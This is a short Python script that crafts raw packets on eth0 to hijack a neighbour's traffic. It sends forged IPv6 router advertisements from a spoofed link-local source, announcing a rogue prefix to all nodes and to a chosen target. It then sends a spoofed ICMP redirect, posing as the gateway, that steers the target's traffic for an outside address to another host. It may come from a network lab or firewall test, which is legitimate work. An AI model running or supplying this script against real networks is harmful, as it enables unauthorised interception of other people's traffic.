#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""neighbour.py LINK - router advertisements and redirects to all, and to the link at that address, by eth0."""
import socket
import struct
import subprocess
import sys

LINK = sys.argv[1]
subprocess.run(["ping", "-c", "1", "-W", "1", LINK], capture_output=True, check=False)  # asks for its MAC
found = subprocess.run(["ip", "neigh", "show", LINK], capture_output=True, text=True, check=True).stdout.split()
target = bytes.fromhex(found[found.index("lladdr") + 1].replace(":", ""))

s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("eth0", 0))
own = s.getsockname()[4]


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


source6 = socket.inet_pton(socket.AF_INET6, "fe80::bad")
prefix = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 3600, 3600, 0) + socket.inet_pton(socket.AF_INET6, "2001:db8:bad::")
for mac, address in ((b"\x33\x33\0\0\0\1", "ff02::1"), (target, "ff02::1"), (target, "fe80::42:aff:fed5:4c03")):
    to = socket.inet_pton(socket.AF_INET6, address)
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + prefix + b"\1\1" + own
    total = checksum(source6 + to + struct.pack("!II", len(body), 58) + body)
    body = body[:2] + struct.pack("!H", total) + body[4:]
    s.send(mac + own + b"\x86\xdd" + struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + source6 + to + body)

# ICMP redirect: 203.0.113.66 is better reached by the neighbour
link, router, outside = (socket.inet_aton(a) for a in (LINK, "10.213.76.2", "203.0.113.66"))
inner = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28, 1, 0, 64, 17, 0, link, outside) + struct.pack("!HHHH", 1, 1, 8, 0)
body = struct.pack("!BBH4s", 5, 1, 0, socket.inet_aton("10.213.76.130")) + inner
body = body[:2] + struct.pack("!H", checksum(body)) + body[4:]
head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 1, 0, 64, 1, 0, router, link)
head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
s.send(target + own + b"\x08\0" + head + body)
